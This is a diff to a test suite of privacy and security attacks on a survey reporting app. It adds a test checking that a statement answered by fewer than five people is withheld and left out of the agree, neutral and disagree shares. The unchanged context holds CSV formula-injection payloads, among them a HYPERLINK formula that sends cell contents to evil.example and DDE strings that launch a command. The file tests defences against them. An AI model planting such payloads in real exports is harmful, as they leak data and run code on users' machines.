@@ -94,6 +94,34 @@ describe.each(testDatabases())('attacks on %s', (kind) => {
     })
   })
 
+  describe('9.7 agree, neutral and disagree shares', () => {
+    it('a leader reading the shares is told which withheld statement they leave out, and cannot recover its answers from them', async () => {
+      const scale = dlV1.scales[0]!
+      const [withheld, ...shown] = scale.items
+      // 6 respondents; only 4 (< k = 5) give an answer to the first statement, the rest say "Don't know"
+      const bodies = generateResponses({ instrument: dlV1, pattern: 4, respondents: 6, seed: 77, dontKnowRate: 0, skipRate: 0 })
+        .map((body, i) => (i < 2 ? { ...body, answers: { ...body.answers, [withheld!.id]: null } } : body))
+      const { id, token } = await newSurvey()
+      await submit(token, bodies)
+      await close(id)
+      const got = (await report(id)).scales.find((s) => s.id === scale.id)!
+      expect(got.items[0]!.counts).toBeNull()
+      expect(got.sharesLeaveOut).toEqual([withheld!.id])
+      // the shares are exactly those of the statements shown: nothing of the withheld one is in them
+      const totals = [0, 0, 0, 0, 0]
+      for (const item of got.items.slice(1)) item.counts!.forEach((c, i) => (totals[i]! += c))
+      const answered = totals.reduce((a, b) => a + b, 0)
+      expect(shown.length).toBe(got.items.length - 1)
+      expect(got.favourable).toBeCloseTo((totals[3]! + totals[4]!) / answered, 10)
+      expect(got.neutral).toBeCloseTo(totals[2]! / answered, 10)
+      expect(got.unfavourable).toBeCloseTo((totals[0]! + totals[1]!) / answered, 10)
+      const full = await report(id)
+      expect(full.suppression).toContain(`${scale.name}: the agree, neutral and disagree shares leave out 1 statement that fewer than 5 people answered.`)
+      const csv = (await leader('GET', `/api/surveys/${id}/report.csv`)).body
+      expect(csv).toContain('leave out 1 statement that fewer than 5 people answered')
+    })
+  })
+
   describe('9.8 CSV formula injection', () => {
     const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1']
 
